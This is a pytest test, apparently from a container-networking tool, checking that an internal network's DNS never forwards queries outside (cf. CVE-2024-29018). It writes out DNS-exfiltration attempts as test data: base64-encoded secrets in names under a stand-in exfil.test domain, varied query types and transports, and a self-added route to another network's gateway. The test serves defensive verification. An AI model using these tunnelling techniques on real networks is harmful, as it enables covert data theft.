"""An --internal network's embedded DNS never forwards (#12.5, Docker's
CVE-2024-29018): data cannot leave through DNS queries."""

from __future__ import annotations

import os
from pathlib import Path

import pytest

import dnstools
from world import OUT_IP

EXFIL = "c2VjcmV0.exfil.test"  # what an attacker would encode data in


@pytest.mark.attack(
    attack="an endpoint of an --internal network (with --dns naming an outside server) "
           "encodes data in DNS names: A/TXT/MX/ANY/PTR, UDP and TCP, EDNS, mixed case, "
           "and asks another network's gateway through a route it adds itself",
    promise="an internal network's DNS answers its own names; no query ever leaves "
            "(other names get SERVFAIL at once, as Docker's embedded DNS)",
    defect="#12.5")
def test_internal_network_queries_never_reach_an_upstream(world, tmp_path: Path) -> None:
    log = str(tmp_path / "upstream.log")
    world.servers.append(dnstools.start_upstream(world.out_path, OUT_IP, log))
    world.ok("network", "create", "sealed", "--subnet", "10.96.0.0/24", "--internal",
             "--dns", OUT_IP)
    world.ok("network", "create", "routed", "--subnet", "10.98.0.0/24", "--dns", OUT_IP)
    world.ok("connect", "sealed", "spy", "--create")
    world.ok("connect", "sealed", "peer", "--create")
    world.ok("connect", "routed", "open", "--create")
    spy = os.path.join(world.box.netns_dir, "spy")
    attempts = [(EXFIL,), (EXFIL, "TXT"), (EXFIL, "MX"), (EXFIL, "ANY"), (EXFIL.upper(),),
                ("+tcp", EXFIL), ("+edns=0", "+bufsize=4096", EXFIL, "TXT"),
                ("-x", "203.0.113.9"), ("+tcp", "-x", OUT_IP), ("peer.exfil.test",),
                ("test",), (".",)]
    for args in attempts:
        msg = dnstools.dig(spy, "@10.96.0.1", *args)
        assert msg["status"] in ("SERVFAIL", "NXDOMAIN"), (args, msg["raw"])
        assert not msg["ANSWER"], (args, msg["raw"])
    # another network's gateway, through a route the attacker adds in its own namespace
    world.box.inside("spy", "ip", "route", "add", "10.98.0.1/32", "via", "10.96.0.1")
    for args in ((EXFIL,), ("+tcp", EXFIL)):
        msg = dnstools.dig(spy, "@10.98.0.1", *args)
        assert msg["status"] in (None, "REFUSED"), (args, msg["raw"])  # dropped or refused
    assert dnstools.log_lines(log) == []
    # the legitimate paths still work: its own names, and a routed network forwards
    assert dnstools.dig(spy, "@10.96.0.1", "peer")["ANSWER"][0][4] == "10.96.0.3"
    assert dnstools.dig(spy, "@10.96.0.1", "-x", "10.96.0.3")["ANSWER"][0][4] == "peer."
    opened = os.path.join(world.box.netns_dir, "open")
    assert dnstools.dig(opened, "@10.98.0.1", "fine.test")["ANSWER"][0][4] == "203.0.113.7"
    assert dnstools.log_lines(log) == ["udp fine.test"]
